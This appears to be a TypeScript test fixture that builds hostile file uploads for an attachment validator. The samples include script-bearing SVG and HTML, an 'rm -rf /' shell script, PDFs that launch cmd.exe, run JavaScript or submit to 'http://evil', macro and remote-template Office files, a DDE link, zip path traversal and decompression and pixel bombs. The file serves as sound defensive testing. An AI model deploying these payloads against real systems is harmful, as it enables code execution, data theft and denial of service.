import type { AttachmentPurpose, AttachmentRefusal } from 'shared/attachments/vocabulary.ts';
import { aPdf, aPhotograph, aPng, anOfficeFile, aZip } from 'server/src/testing/sample-files.ts';

/** The relationships of a part, one of which leads elsewhere. */
export const rels = (type: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

export const MIB = 1_048_576;

/** One part whose directory says that it is small, and which unpacks to much more. */
const lyingZip = async (): Promise<Buffer> => {
  const zip = await anOfficeFile('xlsx', { 'xl/big.xml': Buffer.alloc(5 * MIB) });
  const said = Buffer.alloc(4);
  said.writeUInt32LE(5 * MIB);
  const lie = Buffer.alloc(4);
  lie.writeUInt32LE(100);
  const at = zip.lastIndexOf(said);
  return Buffer.concat([zip.subarray(0, at), lie, zip.subarray(at + 4)]);
};

/** A name that leads out of the folder into which somebody unpacks it; written by hand, because no library does. */
const climbingZip = async (): Promise<Buffer> => {
  const zip = await anOfficeFile('docx', { 'xx_yyyyy.txt': 'x' });
  return Buffer.from(zip.toString('latin1').replaceAll('xx_yyyyy.txt', '../../yy.txt'), 'latin1');
};

/** A file that must be refused. */
interface Hostile {
  readonly name: string;
  readonly make: () => Buffer | Promise<Buffer>;
  readonly refusal: AttachmentRefusal;
  readonly purpose: AttachmentPurpose;
}

type Case = readonly [string, Hostile['make'], AttachmentRefusal, AttachmentPurpose?];

const CASES: readonly Case[] = [
  ['an SVG with a script', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'TYPE', 'PICTURE'],
  ['a page', () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'TYPE'],
  ['a program', () => Buffer.from('MZ\u0090\u0000\u0003 program', 'latin1'), 'TYPE'],
  ['a script', () => Buffer.from('#!/bin/sh\nrm -rf /'), 'TYPE'],
  ['an animation', () => Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1'), 'TYPE', 'PICTURE'],
  ['text', () => Buffer.from('a'), 'TYPE'],
  ['a document as a picture', () => aPdf(), 'NOT_A_PICTURE', 'PICTURE'],
  ['a PDF after something else', () => Buffer.concat([Buffer.from('GIF89a'), aPdf()]), 'TYPE'],
  ['a PDF with an archive behind it', async () => Buffer.concat([aPdf(), await aZip({ 'a.exe': 'MZ' })]), 'POLYGLOT'],
  ['a PDF with a page behind it', () => Buffer.concat([aPdf(), Buffer.from('<script>alert(1)</script>')]), 'POLYGLOT'],
  [
    'a PDF with a page in its head',
    () => Buffer.from(aPdf().toString('latin1').replace('\n', '\n%<html><script>\n'), 'latin1'),
    'POLYGLOT',
  ],
  ['a PDF with a script', () => aPdf('/OpenAction << /S /JavaScript /JS (app.alert) >>'), 'ACTIVE_CONTENT'],
  ['a PDF with a script under a coded name', () => aPdf('/OpenAction << /S /J#61vaScript >>'), 'ACTIVE_CONTENT'],
  ['a PDF that starts a program', () => aPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'ACTIVE_CONTENT'],
  ['a PDF with files in it', () => aPdf('/Names << /EmbeddedFiles 5 0 R >>'), 'ACTIVE_CONTENT'],
  ['a PDF that sends what is typed', () => aPdf('/OpenAction << /S /SubmitForm /F (http://evil) >>'), 'ACTIVE_CONTENT'],
  [
    'a PDF with a script behind a picture',
    () => aPdf(`>>\nendobj\n3 0 obj\n<< >>\nstream\nx\nendstream\nendobj\n4 0 obj\n<< /JS (x)`),
    'ACTIVE_CONTENT',
  ],
  ['a PDF that was cut off', () => aPdf().subarray(0, 100), 'DAMAGED'],
  ['a picture that was cut off', async () => (await aPhotograph()).subarray(0, 900), 'DAMAGED', 'PICTURE'],
  ['a signature and nothing else', () => Buffer.from('\u0089PNG\r\n\u001a\n<?php', 'latin1'), 'DAMAGED', 'PICTURE'],
  ['a pixel bomb', () => aPng(8_000, 6_300), 'TOO_MANY_PIXELS', 'PICTURE'],
  ['a document with macros', () => anOfficeFile('docm'), 'ACTIVE_CONTENT'],
  ['a document with a project of macros', () => anOfficeFile('docx', { 'word/vbaProject.bin': 'x' }), 'ACTIVE_CONTENT'],
  ['a workbook with old macros', () => anOfficeFile('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'ACTIVE_CONTENT'],
  ['a document with a program in it', () => anOfficeFile('docx', { 'word/embeddings/oleObject1.bin': 'MZ' }), 'ACTIVE_CONTENT'],
  ['a document with a control', () => anOfficeFile('docx', { 'word/activeX/activeX1.xml': '<x/>' }), 'ACTIVE_CONTENT'],
  [
    'a document with a template elsewhere',
    () => anOfficeFile('docx', { 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://evil/x.dotm') }),
    'ACTIVE_CONTENT',
  ],
  [
    'a document that loads a picture from elsewhere',
    () => anOfficeFile('docx', { 'word/_rels/document.xml.rels': rels('image', 'http://evil/x.png') }),
    'ACTIVE_CONTENT',
  ],
  [
    'a workbook that asks a program',
    () => anOfficeFile('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
    'ACTIVE_CONTENT',
  ],
  ['an archive that is no document', () => aZip({ 'a.txt': 'x' }), 'TYPE'],
  ['an archive with a name that leads out', climbingZip, 'DAMAGED'],
  [
    'an archive of very many parts',
    () => anOfficeFile('xlsx', Object.fromEntries(Array.from({ length: 250 }, (_, at) => [`xl/p${at}.xml`, 'x']))),
    'ARCHIVE_TOO_LARGE',
  ],
  [
    'an archive that unpacks to very much',
    () => anOfficeFile('xlsx', { 'xl/one.xml': Buffer.alloc(120 * MIB), 'xl/two.xml': Buffer.alloc(120 * MIB) }),
    'ARCHIVE_TOO_LARGE',
  ],
  ['an archive that lies about its size', lyingZip, 'DAMAGED'],
  ['an archive with something behind it', async () => Buffer.concat([await anOfficeFile('docx'), Buffer.from('MZ program')]), 'POLYGLOT'],
  [
    'an archive with two parts of one name',
    async () =>
      Buffer.from(
        (await anOfficeFile('docx', { 'word/one.xml': 'x', 'word/two.xml': 'y' }))
          .toString('latin1')
          .replaceAll('word/two.xml', 'word/one.xml'),
        'latin1',
      ),
    'POLYGLOT',
  ],
];

export const HOSTILE_FILES: readonly Hostile[] = CASES.map(([name, make, refusal, purpose = 'DOCUMENT']) => ({
  name,
  make,
  refusal,
  purpose,
}));
